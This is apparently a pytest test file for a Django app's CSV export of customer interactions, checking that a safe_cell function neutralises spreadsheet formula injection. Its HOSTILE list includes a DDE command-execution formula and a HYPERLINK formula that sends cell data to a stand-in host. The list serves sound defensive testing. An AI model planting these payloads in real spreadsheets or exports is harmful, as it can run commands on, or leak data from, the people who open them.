"""The spreadsheet: what it holds, and what it never does to whoever opens it."""

import csv
import io
from datetime import timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from interactions.exports import COLUMNS, csv_rows, safe_cell, save_csv, write_csv
from interactions.models import Interaction
from tests.interactions.stored import NOW, interaction, run

SYDNEY = ZoneInfo("Australia/Sydney")
database = pytest.mark.django_db

# What makes a spreadsheet run a cell; source: OWASP, CSV injection.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.com?"&A1,"x")',
    "+61 400 000 000",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "=cmd|' /C calc'!A0",
    '"=1+1',
]


def read(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE[:-1])
def test_no_cell_is_taken_for_a_formula(text: str) -> None:
    assert safe_cell(text, SYDNEY) == f"'{text}"
    assert str(safe_cell([text, "b"], SYDNEY)).startswith("'")


@given(st.text(max_size=30))
def test_a_cell_starts_with_no_formula_or_is_left_alone(text: str) -> None:
    cell = str(safe_cell(text, SYDNEY))
    assert cell in {text, f"'{text}"}
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (-5, -5),
        (0, 0),
        (NOW, "2026-11-24 14:00:00+11:00"),
        (["a", "b"], "a, b"),
        ([], ""),
        ("Where is it - now?", "Where is it - now?"),
        ('say "hi", Mia', 'say "hi", Mia'),
    ],
)
def test_values_are_shown_as_they_are(value: object, cell: object) -> None:
    assert safe_cell(value, SYDNEY) == cell


@database
def test_a_file_opens_with_accents_right_and_survives_quotes_and_lines(tmp_path: Path) -> None:
    subject = 'Crème brûlée, "the best";\nsecond line 👩🏽‍🌾'
    interaction(subject=subject, customer_name="Zoë")
    path = tmp_path / "out.csv"
    assert save_csv(Interaction.objects.all(), path, SYDNEY) == 1
    assert path.read_bytes().startswith(b"\xef\xbb\xbfid,source,")
    header, row = read(path)
    assert header == list(COLUMNS)
    assert dict(zip(header, row, strict=True))["subject"] == subject
    assert path.read_bytes().count(b"\r\n") == 2
    assert list(tmp_path.iterdir()) == [path]


@database
def test_rows_are_oldest_first_and_every_one_is_there(tmp_path: Path) -> None:
    for number in (3, 1, 2):
        interaction(external_id=f"T{number}", started_at=NOW + timedelta(days=number), tags=["a"] * number)
    save_csv(Interaction.objects.all(), tmp_path / "out.csv", SYDNEY)
    place = COLUMNS.index("external_id")
    assert [row[place] for row in read(tmp_path / "out.csv")[1:]] == ["T1", "T2", "T3"]


@database
def test_hostile_texts_of_a_database_are_disarmed_in_every_column(tmp_path: Path) -> None:
    texts = [column for column in COLUMNS if column in {"subject", "customer_name", "rating_comment", "agent_name"}]
    for text in HOSTILE:
        interaction(tags=[text], order_ids=[text], **dict.fromkeys(texts, text))
    save_csv(Interaction.objects.all(), tmp_path / "out.csv", SYDNEY)
    rows = read(tmp_path / "out.csv")[1:]
    assert len(rows) == len(HOSTILE)
    assert not [cell for row in rows for cell in row if cell.lstrip().startswith(("=", "+", "@", "＝", "＋", "＠"))]


@database
def test_a_failed_export_leaves_the_former_file_and_no_other(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text("former")

    class Broken(Exception):
        pass

    def rows() -> object:
        raise Broken

    interactions = Interaction.objects.all()
    interactions.order_by = lambda *_: rows()  # type: ignore[method-assign, assignment]
    with pytest.raises(Broken):
        save_csv(interactions, path, SYDNEY)
    assert path.read_text() == "former"
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize("name", ["", ".", "/", "missing/out.csv"])
def test_a_place_that_is_no_file_is_refused_in_words(name: str, tmp_path: Path) -> None:
    with pytest.raises(OSError, match="folder"):
        save_csv(Interaction.objects.none(), tmp_path / name, SYDNEY)


def test_the_header_is_not_counted() -> None:
    assert write_csv([["a"], ["1"], ["2"]], io.StringIO()) == 2


@database
def test_thousands_of_rows_are_read_in_pieces() -> None:
    run("INSERT INTO customer_interactions (source, started_at) SELECT 'email', now() FROM generate_series(1, 4500)")
    assert sum(1 for _ in csv_rows(Interaction.objects.all(), SYDNEY)) == 4_501
